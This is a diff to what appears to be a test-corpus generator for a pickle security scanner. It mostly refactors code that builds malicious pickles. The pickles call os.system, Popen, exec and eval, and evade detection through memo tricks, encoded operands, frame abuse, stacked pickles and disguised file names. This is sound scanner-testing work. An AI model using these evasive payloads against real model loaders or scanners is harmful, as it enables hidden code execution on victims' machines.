@@ -9,9 +9,11 @@ Gadget calls that would touch the network, pip or a GUI are written but never se
 
 from __future__ import annotations
 
+import functools
 import os
 import pickle
 import subprocess
+from collections.abc import Callable
 
 from tests.corpus._spec import (
     DANGEROUS,
@@ -40,8 +42,8 @@ def os_system(m: Marker, proto: int = 2) -> bytes:
     return a.global_("os", "system").mark().str_(m.shell).tuple_().reduce().stop().bytes()
 
 
-def _dumps(proto: int, func: object, *args: object) -> bytes:
-    return pickle.dumps(Payload(func, *args), protocol=proto)  # type: ignore[arg-type]
+def _dumps_system(m: Marker, proto: int) -> bytes:
+    return pickle.dumps(Payload(os.system, m.shell), protocol=proto)
 
 
 def _classic() -> list[Spec]:
@@ -53,7 +55,7 @@ def _classic() -> list[Spec]:
             DANGEROUS,
             f"pickle.dumps of a __reduce__ returning os.system (written as posix.system), "
             f"protocol {p}",
-            lambda m, p=p: _dumps(p, os.system, m.shell),
+            functools.partial(_dumps_system, proto=p),
             loader="pickle",
             quick=p in (0, 2, 4),
         )
@@ -65,12 +67,12 @@ def _classic() -> list[Spec]:
             fam,
             DANGEROUS,
             f"hand-assembled GLOBAL/STACK_GLOBAL os.system, protocol {p}",
-            lambda m, p=p: os_system(m, p),
+            functools.partial(os_system, proto=p),
             loader="pickle",
         )
         for p in (0, 1, 4)
     ]
-    rows: list[tuple[str, str, str, object, str]] = [
+    rows: list[tuple[str, str, str, str, str]] = [
         ("nt_system", "nt", "system", "shell", "nt.system: the Windows spelling of os.system"),
         ("subprocess_popen", "subprocess", "Popen", "argv", "subprocess.Popen(argv)"),
         ("subprocess_run", "subprocess", "run", "argv", "subprocess.run(argv)"),
@@ -89,38 +91,70 @@ def _classic() -> list[Spec]:
                 fam,
                 DANGEROUS,
                 note,
-                lambda m, mod=module, fn=func, kind=arg: _call_bytes(m, mod, fn, kind),
+                functools.partial(_call_bytes, module=module, func=func, kind=arg),
                 loader="" if module == "nt" else "pickle",
                 quick=name in ("subprocess_popen", "builtins_exec"),
             )
         )
     specs += [
-        mal("classic/builtins_open.pkl", fam, DANGEROUS, "builtins.open(path, 'w') creates a file",
+        mal(
+            "classic/builtins_open.pkl",
+            fam,
+            DANGEROUS,
+            "builtins.open(path, 'w') creates a file",
             lambda m: Asm().proto(2).call("builtins", "open", m.path, "w").stop().bytes(),
-            loader="pickle"),
-        mal("classic/builtins_compile_exec.pkl", fam, DANGEROUS,
+            loader="pickle",
+        ),
+        mal(
+            "classic/builtins_compile_exec.pkl",
+            fam,
+            DANGEROUS,
             "builtins.exec(builtins.compile(source)): the code object is built in the pickle",
-            lambda m: Asm().proto(2).global_("builtins", "exec")
-            .call("builtins", "compile", m.py, "<p>", "exec").tuple_(1).reduce().stop().bytes(),
-            loader="pickle"),
-        mal("classic/builtins_import_getattr.pkl", fam, DANGEROUS,
+            lambda m: (
+                Asm()
+                .proto(2)
+                .global_("builtins", "exec")
+                .call("builtins", "compile", m.py, "<p>", "exec")
+                .tuple_(1)
+                .reduce()
+                .stop()
+                .bytes()
+            ),
+            loader="pickle",
+        ),
+        mal(
+            "classic/builtins_import_getattr.pkl",
+            fam,
+            DANGEROUS,
             "getattr(__import__('os'), 'system')(cmd): the call target is built at load time",
-            lambda m: Asm().proto(2).global_("builtins", "getattr")
-            .call("builtins", "__import__", "os").str_("system").tuple_(2).reduce()
-            .push((m.shell,)).reduce().stop().bytes(),
-            loader="pickle", quick=True),
+            lambda m: (
+                Asm()
+                .proto(2)
+                .global_("builtins", "getattr")
+                .call("builtins", "__import__", "os")
+                .str_("system")
+                .tuple_(2)
+                .reduce()
+                .push((m.shell,))
+                .reduce()
+                .stop()
+                .bytes()
+            ),
+            loader="pickle",
+            quick=True,
+        ),
     ]
     return specs
 
 
-def _call_bytes(m: Marker, module: str, func: str, kind: object) -> bytes:
+def _call_bytes(m: Marker, module: str, func: str, kind: str) -> bytes:
     arg: object = {
         "shell": m.shell,
         "argv": m.argv,
         "py": m.py,
         "eval": f"__import__('os').system({m.shell!r})",
-    }[str(kind)]
-    return Asm().proto(2).call(module, func, arg).stop().bytes()  # type: ignore[arg-type]
+    }[kind]
+    return Asm().proto(2).call(module, func, arg).stop().bytes()
 
 
 def _compat() -> list[Spec]:
@@ -128,33 +162,71 @@ def _compat() -> list[Spec]:
     fam = "compat-pickle-rename"
 
     def text_call(module: str, name: str, arg: object) -> bytes:
-        return Asm(text=True).global_(module, name).push((arg,)).reduce().stop().bytes()  # type: ignore[arg-type]
+        return Asm(text=True).global_(module, name).push((arg,)).reduce().stop().bytes()
 
     return [
-        mal("compat/builtin_eval_p0.pkl", fam, DANGEROUS,
+        mal(
+            "compat/builtin_eval_p0.pkl",
+            fam,
+            DANGEROUS,
             "__builtin__.eval: the Python 2 module name, renamed to builtins by the unpickler",
             lambda m: text_call("__builtin__", "eval", f"__import__('os').system({m.shell!r})"),
-            loader="pickle", quick=True),
-        mal("compat/builtin_exec_p2.pkl", fam, DANGEROUS, "__builtin__.exec in protocol 2",
+            loader="pickle",
+            quick=True,
+        ),
+        mal(
+            "compat/builtin_exec_p2.pkl",
+            fam,
+            DANGEROUS,
+            "__builtin__.exec in protocol 2",
             lambda m: Asm().proto(2).call("__builtin__", "exec", m.py).stop().bytes(),
-            loader="pickle"),
-        mal("compat/commands_getoutput_p0.pkl", fam, DANGEROUS,
+            loader="pickle",
+        ),
+        mal(
+            "compat/commands_getoutput_p0.pkl",
+            fam,
+            DANGEROUS,
             "commands.getoutput: Python 2 module mapped onto subprocess",
-            lambda m: text_call("commands", "getoutput", m.shell), loader="pickle"),
-        mal("compat/cpickle_loads_p2.pkl", fam, NESTED,
+            lambda m: text_call("commands", "getoutput", m.shell),
+            loader="pickle",
+        ),
+        mal(
+            "compat/cpickle_loads_p2.pkl",
+            fam,
+            NESTED,
             "cPickle.loads (mapped to pickle.loads) of an inner malicious pickle",
             lambda m: Asm().proto(2).call("cPickle", "loads", os_system(m)).stop().bytes(),
-            loader="pickle"),
-        mal("compat/copy_reg_reconstructor_popen_p2.pkl", fam, PKL_ANY,
+            loader="pickle",
+        ),
+        mal(
+            "compat/copy_reg_reconstructor_popen_p2.pkl",
+            fam,
+            PKL_ANY,
             "copy_reg._reconstructor(Popen, Popen, argv): runs Popen.__init__ (copyreg gadget)",
-            lambda m: Asm().proto(2).global_("copy_reg", "_reconstructor")
-            .mark().global_("subprocess", "Popen").global_("subprocess", "Popen")
-            .push(m.argv).tuple_().reduce().stop().bytes(),
-            loader="pickle"),
-        mal("compat/urllib2_urlopen_p2.pkl", fam, PKL_ANY,
+            lambda m: (
+                Asm()
+                .proto(2)
+                .global_("copy_reg", "_reconstructor")
+                .mark()
+                .global_("subprocess", "Popen")
+                .global_("subprocess", "Popen")
+                .push(m.argv)
+                .tuple_()
+                .reduce()
+                .stop()
+                .bytes()
+            ),
+            loader="pickle",
+        ),
+        mal(
+            "compat/urllib2_urlopen_p2.pkl",
+            fam,
+            PKL_ANY,
             "urllib2.urlopen (mapped to urllib.request): exfiltration gadget, never loaded",
-            lambda m: Asm().proto(2).call("urllib2", "urlopen", "http://127.0.0.1:9/x").stop()
-            .bytes()),
+            lambda m: (
+                Asm().proto(2).call("urllib2", "urlopen", "http://127.0.0.1:9/x").stop().bytes()
+            ),
+        ),
     ]
 
 
@@ -187,20 +259,47 @@ def _memo() -> list[Spec]:
         return a.stack_global().push((m.shell,)).reduce().stop().bytes()
 
     return [
-        mal("memo/memoize_binget.pkl", fam, DYNAMIC,
+        mal(
+            "memo/memoize_binget.pkl",
+            fam,
+            DYNAMIC,
             "module and name MEMOIZEd, popped, fetched back with BINGET (picklescan memo bug)",
-            memoised, loader="pickle", quick=True),
-        mal("memo/memo_overwritten.pkl", fam, DYNAMIC,
+            memoised,
+            loader="pickle",
+            quick=True,
+        ),
+        mal(
+            "memo/memo_overwritten.pkl",
+            fam,
+            DYNAMIC,
             "memo slots first hold collections/OrderedDict, then are overwritten with os/system",
-            overwritten, loader="pickle"),
-        mal("memo/long_binget.pkl", fam, DYNAMIC, "LONG_BINPUT/LONG_BINGET with large indexes",
-            long_memo, loader="pickle"),
-        mal("memo/text_put_get.pkl", fam, DYNAMIC,
+            overwritten,
+            loader="pickle",
+        ),
+        mal(
+            "memo/long_binget.pkl",
+            fam,
+            DYNAMIC,
+            "LONG_BINPUT/LONG_BINGET with large indexes",
+            long_memo,
+            loader="pickle",
+        ),
+        mal(
+            "memo/text_put_get.pkl",
+            fam,
+            DYNAMIC,
             "protocol-0 PUT/GET of V strings feeding STACK_GLOBAL (no PROTO opcode)",
-            text_memo, loader="pickle"),
-        mal("memo/decoy_strings_before.pkl", fam, DYNAMIC,
+            text_memo,
+            loader="pickle",
+        ),
+        mal(
+            "memo/decoy_strings_before.pkl",
+            fam,
+            DYNAMIC,
             "decoy benign strings right before STACK_GLOBAL; real operands come from the memo",
-            dup_memo, loader="pickle"),
+            dup_memo,
+            loader="pickle",
+        ),
     ]
 
 
@@ -234,14 +333,39 @@ def _computed() -> list[Spec]:
         return a.stack_global().push((m.shell,)).reduce().stop().bytes()
 
     return [
-        mal("computed/str_join.pkl", fam, DYNAMIC, "STACK_GLOBAL('' .join(['o','s']), ...)",
-            joined, loader="pickle", quick=True),
-        mal("computed/codecs_rot13.pkl", fam, DYNAMIC, "operands decoded from rot13 at load time",
-            rot13, loader="pickle"),
-        mal("computed/operator_getitem.pkl", fam, DYNAMIC, "operands looked up in a dict",
-            getitem, loader="pickle"),
-        mal("computed/bytes_decode.pkl", fam, DYNAMIC, "operands decoded from bytes constants",
-            decoded, loader="pickle"),
+        mal(
+            "computed/str_join.pkl",
+            fam,
+            DYNAMIC,
+            "STACK_GLOBAL('' .join(['o','s']), ...)",
+            joined,
+            loader="pickle",
+            quick=True,
+        ),
+        mal(
+            "computed/codecs_rot13.pkl",
+            fam,
+            DYNAMIC,
+            "operands decoded from rot13 at load time",
+            rot13,
+            loader="pickle",
+        ),
+        mal(
+            "computed/operator_getitem.pkl",
+            fam,
+            DYNAMIC,
+            "operands looked up in a dict",
+            getitem,
+            loader="pickle",
+        ),
+        mal(
+            "computed/bytes_decode.pkl",
+            fam,
+            DYNAMIC,
+            "operands decoded from bytes constants",
+            decoded,
+            loader="pickle",
+        ),
     ]
 
 
@@ -263,14 +387,31 @@ def _escapes() -> list[Spec]:
         return a.reduce().stop().bytes()
 
     return [
-        mal("escapes/unicode_escaped_operands.pkl", fam, DYNAMIC,
+        mal(
+            "escapes/unicode_escaped_operands.pkl",
+            fam,
+            DYNAMIC,
             "V opcodes spelling os/system with \\u escapes, then STACK_GLOBAL",
-            unicode_escaped, loader="pickle", quick=True),
-        mal("escapes/string_escaped_operands.pkl", fam, DYNAMIC,
+            unicode_escaped,
+            loader="pickle",
+            quick=True,
+        ),
+        mal(
+            "escapes/string_escaped_operands.pkl",
+            fam,
+            DYNAMIC,
             "S opcodes spelling os/system with \\x escapes, then STACK_GLOBAL",
-            string_escaped, loader="pickle"),
-        mal("escapes/escaped_arguments.pkl", fam, DANGEROUS,
-            "GLOBAL os.system with a fully \\x-escaped S argument", escaped_args, loader="pickle"),
+            string_escaped,
+            loader="pickle",
+        ),
+        mal(
+            "escapes/escaped_arguments.pkl",
+            fam,
+            DANGEROUS,
+            "GLOBAL os.system with a fully \\x-escaped S argument",
+            escaped_args,
+            loader="pickle",
+        ),
     ]
 
 
@@ -323,34 +464,94 @@ def _objects() -> list[Spec]:
 
     fam = "inst-obj-build"
     return [
-        mal("objects/long_prefix_string.pkl", "payload-far-from-start", DANGEROUS,
+        mal(
+            "objects/long_prefix_string.pkl",
+            "payload-far-from-start",
+            DANGEROUS,
             "protocol-0 pickle: a 64 KiB string constant, popped, then the payload",
-            long_prefix, loader="pickle"),
-        mal("objects/protocol5_buffer_opcodes.pkl", "payload-far-from-start", DANGEROUS,
+            long_prefix,
+            loader="pickle",
+        ),
+        mal(
+            "objects/protocol5_buffer_opcodes.pkl",
+            "payload-far-from-start",
+            DANGEROUS,
             "BYTEARRAY8 + READONLY_BUFFER (protocol-5 buffer opcodes) before the payload",
-            buffer_opcodes, loader="pickle"),
-        mal("objects/result_popped.pkl", "discarded-result", DANGEROUS,
+            buffer_opcodes,
+            loader="pickle",
+        ),
+        mal(
+            "objects/result_popped.pkl",
+            "discarded-result",
+            DANGEROUS,
             "REDUCE result thrown away with POP before a benign object (fickling AST gap)",
-            popped, loader="pickle"),
-        mal("objects/result_pop_marked.pkl", "discarded-result", DANGEROUS,
-            "payload between MARK and POP_MARK: discarded, but it already ran", pop_marked,
-            loader="pickle"),
-        mal("objects/inst_os_system.pkl", fam, DANGEROUS, "INST os system: calls os.system(*args)",
-            inst, loader="pickle", quick=True),
-        mal("objects/obj_os_system.pkl", fam, DANGEROUS, "OBJ with os.system as the class",
-            obj, loader="pickle"),
-        mal("objects/inst_subprocess_popen.pkl", fam, DANGEROUS, "INST subprocess Popen(argv)",
-            inst_popen, loader="pickle"),
-        mal("objects/newobj_popen.pkl", fam, DANGEROUS,
-            "NEWOBJ on subprocess.Popen (class of a dangerous type instantiated)", newobj),
-        mal("objects/newobj_ex_popen.pkl", fam, DANGEROUS, "NEWOBJ_EX on subprocess.Popen",
-            newobj_ex),
-        mal("objects/build_setstate_gadget.pkl", fam, PKL_ANY,
+            popped,
+            loader="pickle",
+        ),
+        mal(
+            "objects/result_pop_marked.pkl",
+            "discarded-result",
+            DANGEROUS,
+            "payload between MARK and POP_MARK: discarded, but it already ran",
+            pop_marked,
+            loader="pickle",
+        ),
+        mal(
+            "objects/inst_os_system.pkl",
+            fam,
+            DANGEROUS,
+            "INST os system: calls os.system(*args)",
+            inst,
+            loader="pickle",
+            quick=True,
+        ),
+        mal(
+            "objects/obj_os_system.pkl",
+            fam,
+            DANGEROUS,
+            "OBJ with os.system as the class",
+            obj,
+            loader="pickle",
+        ),
+        mal(
+            "objects/inst_subprocess_popen.pkl",
+            fam,
+            DANGEROUS,
+            "INST subprocess Popen(argv)",
+            inst_popen,
+            loader="pickle",
+        ),
+        mal(
+            "objects/newobj_popen.pkl",
+            fam,
+            DANGEROUS,
+            "NEWOBJ on subprocess.Popen (class of a dangerous type instantiated)",
+            newobj,
+        ),
+        mal(
+            "objects/newobj_ex_popen.pkl",
+            fam,
+            DANGEROUS,
+            "NEWOBJ_EX on subprocess.Popen",
+            newobj_ex,
+        ),
+        mal(
+            "objects/build_setstate_gadget.pkl",
+            fam,
+            PKL_ANY,
             "argparse.Namespace gets an instance __setstate__ = os.system, a 2nd BUILD calls it",
-            setstate_gadget, loader="pickle", quick=True),
-        mal("objects/ordereddict_state_payload.pkl", fam, DANGEROUS,
+            setstate_gadget,
+            loader="pickle",
+            quick=True,
+        ),
+        mal(
+            "objects/ordereddict_state_payload.pkl",
+            fam,
+            DANGEROUS,
             "allowed collections.OrderedDict whose BUILD state holds a REDUCE of os.system",
-            state_payload, loader="pickle"),
+            state_payload,
+            loader="pickle",
+        ),
     ]
 
 
@@ -361,7 +562,7 @@ def _broken() -> list[Spec]:
     def payload(proto: int = 2) -> Asm:
         return Asm().proto(proto)
 
-    def with_tail(tail: bytes) -> object:
+    def with_tail(tail: bytes) -> Callable[[Marker], bytes]:
         return lambda m: payload().call("os", "system", m.shell).raw(tail).bytes()
 
     rows = [
@@ -374,8 +575,15 @@ def _broken() -> list[Spec]:
         ("unmatched_mark", b"(.", "MARK never closed before STOP"),
     ]
     return [
-        mal(f"broken/{name}.pkl", fam, MALFORMED_PAYLOAD, f"payload then {note}",
-            with_tail(tail), loader="pickle", quick=name == "garbage_tail")  # type: ignore[arg-type]
+        mal(
+            f"broken/{name}.pkl",
+            fam,
+            MALFORMED_PAYLOAD,
+            f"payload then {note}",
+            with_tail(tail),
+            loader="pickle",
+            quick=name == "garbage_tail",
+        )
         for name, tail, note in rows
     ]
 
@@ -410,26 +618,52 @@ def _frames() -> list[Spec]:
         return Asm().proto(4).bytes() + framed(inner[:first]) + inner[first:]
 
     return [
-        mal("frames/opcode_spans_frames.pkl", fam, MALFORMED_PAYLOAD,
+        mal(
+            "frames/opcode_spans_frames.pkl",
+            fam,
+            MALFORMED_PAYLOAD,
             "frame ends inside an operand: the C unpickler reads on, _Unframer refuses",
-            split, loader="pickle", quick=True),
-        mal("frames/nested_frame.pkl", fam, MALFORMED_PAYLOAD,
+            split,
+            loader="pickle",
+            quick=True,
+        ),
+        mal(
+            "frames/nested_frame.pkl",
+            fam,
+            MALFORMED_PAYLOAD,
             "FRAME inside a FRAME: the C unpickler accepts it, the Python one does not",
-            nested, loader="pickle"),
-        mal("frames/frame_past_eof.pkl", fam, MALFORMED_PAYLOAD,
+            nested,
+            loader="pickle",
+        ),
+        mal(
+            "frames/frame_past_eof.pkl",
+            fam,
+            MALFORMED_PAYLOAD,
             "payload, then a FRAME declaring 1 TiB (a scanner reading it whole runs out)",
-            too_long, loader="pickle"),
-        mal("frames/frame_in_protocol2.pkl", fam, DANGEROUS,
-            "FRAME in a protocol-2 stream: legal for the unpickler", proto2_frame,
-            loader="pickle"),
-        mal("frames/payload_after_frame.pkl", fam, MALFORMED_PAYLOAD,
+            too_long,
+            loader="pickle",
+        ),
+        mal(
+            "frames/frame_in_protocol2.pkl",
+            fam,
+            DANGEROUS,
+            "FRAME in a protocol-2 stream: legal for the unpickler",
+            proto2_frame,
+            loader="pickle",
+        ),
+        mal(
+            "frames/payload_after_frame.pkl",
+            fam,
+            MALFORMED_PAYLOAD,
             "the frame ends after the operands; STACK_GLOBAL and REDUCE follow unframed",
-            short_frame, loader="pickle"),
+            short_frame,
+            loader="pickle",
+        ),
     ]
 
 
 def _ext_and_persid() -> list[Spec]:
-    def ext(code: int) -> object:
+    def ext(code: int) -> Callable[[Marker], bytes]:
         return lambda m: Asm().proto(2).ext(code).push((m.shell,)).reduce().stop().bytes()
 
     def registered(m: Marker) -> bytes:
@@ -448,23 +682,48 @@ def _ext_and_persid() -> list[Spec]:
         return a.global_("os", "system").mark().str_(m.shell).tuple_().reduce().stop().bytes()
 
     specs = [
-        mal(f"ext/ext{n}_reduce.pkl", "ext-opcode", frozenset({"SCAN-PKL-004"}),
+        mal(
+            f"ext/ext{n}_reduce.pkl",
+            "ext-opcode",
+            frozenset({"SCAN-PKL-004"}),
             f"EXT{n} code resolved through the copyreg registry, then REDUCE",
-            ext(code))  # type: ignore[arg-type]
+            ext(code),
+        )
         for n, code in ((1, 1), (2, 0x1234), (4, 0x12345678))
     ]
     return [
         *specs,
-        mal("ext/ext_registered_in_pickle.pkl", "ext-opcode", EXT_OR_PAYLOAD,
+        mal(
+            "ext/ext_registered_in_pickle.pkl",
+            "ext-opcode",
+            EXT_OR_PAYLOAD,
             "copyreg.add_extension('os','system',240) in the pickle, then EXT1 240 + REDUCE",
-            registered, loader="pickle", quick=True),
-        mal("persid/binpersid_payload_in_id.pkl", "persistent-id", PKL_ANY,
-            "BINPERSID whose id tuple is built by a REDUCE of os.system", persid_payload,
-            loader="pickle"),
-        mal("persid/binpersid_callable_id.pkl", "persistent-id", DANGEROUS,
-            "BINPERSID with the os.system function itself as the id", persid_callable),
-        mal("persid/persid_text_then_payload.pkl", "persistent-id", DANGEROUS,
-            "PERSID with an odd text id, followed by a payload", persid_text),
+            registered,
+            loader="pickle",
+            quick=True,
+        ),
+        mal(
+            "persid/binpersid_payload_in_id.pkl",
+            "persistent-id",
+            PKL_ANY,
+            "BINPERSID whose id tuple is built by a REDUCE of os.system",
+            persid_payload,
+            loader="pickle",
+        ),
+        mal(
+            "persid/binpersid_callable_id.pkl",
+            "persistent-id",
+            DANGEROUS,
+            "BINPERSID with the os.system function itself as the id",
+            persid_callable,
+        ),
+        mal(
+            "persid/persid_text_then_payload.pkl",
+            "persistent-id",
+            DANGEROUS,
+            "PERSID with an odd text id, followed by a payload",
+            persid_text,
+        ),
     ]
 
 
@@ -485,14 +744,33 @@ def _stacked_and_disguised() -> list[Spec]:
         ("pytorch_model.bin", 2, "raw pickle named like a torch checkpoint (CVE-2025-10155)"),
     ]
     return [
-        mal("stacked/benign_then_malicious.pkl", "stacked-pickles", PKL_ANY,
-            "a benign pickle, then a malicious one in the same file", stacked,
-            loader="pickle-all", quick=True),
-        mal("stacked/ten_benign_then_malicious.pkl", "stacked-pickles", PKL_ANY,
-            "ten benign pickles, the 11th is malicious", stacked_many, loader="pickle-all"),
+        mal(
+            "stacked/benign_then_malicious.pkl",
+            "stacked-pickles",
+            PKL_ANY,
+            "a benign pickle, then a malicious one in the same file",
+            stacked,
+            loader="pickle-all",
+            quick=True,
+        ),
+        mal(
+            "stacked/ten_benign_then_malicious.pkl",
+            "stacked-pickles",
+            PKL_ANY,
+            "ten benign pickles, the 11th is malicious",
+            stacked_many,
+            loader="pickle-all",
+        ),
         *(
-            mal(f"disguised/{name}", "disguised-extension", DANGEROUS, note,
-                lambda m, p=proto: os_system(m, p), loader="pickle", quick=name == "cat.jpg")
+            mal(
+                f"disguised/{name}",
+                "disguised-extension",
+                DANGEROUS,
+                note,
+                functools.partial(os_system, proto=proto),
+                loader="pickle",
+                quick=name == "cat.jpg",
+            )
             for name, proto, note in disguised
         ),
     ]
@@ -529,9 +807,22 @@ def specs() -> list[Spec]:
         *_ext_and_persid(),
         *_stacked_and_disguised(),
         *gadget_specs(),
-        mal("objects/sklearn_pipeline_injected.pkl", "payload-in-allowed-state", DANGEROUS,
+        mal(
+            "objects/sklearn_pipeline_injected.pkl",
+            "payload-in-allowed-state",
+            DANGEROUS,
             "real sklearn Pipeline, os.system hidden in a list in a dict in class_weight",
-            _sklearn_injected, loader="pickle", needs=("sklearn",), quick=True),
-        mal("objects/protocol5_dict_popen.pkl", "payload-in-allowed-state", DANGEROUS,
-            "protocol-5 dict whose value is a Popen call", _sklearn_popen, loader="pickle"),
+            _sklearn_injected,
+            loader="pickle",
+            needs=("sklearn",),
+            quick=True,
+        ),
+        mal(
+            "objects/protocol5_dict_popen.pkl",
+            "payload-in-allowed-state",
+            DANGEROUS,
+            "protocol-5 dict whose value is a Popen call",
+            _sklearn_popen,
+            loader="pickle",
+        ),
     ]
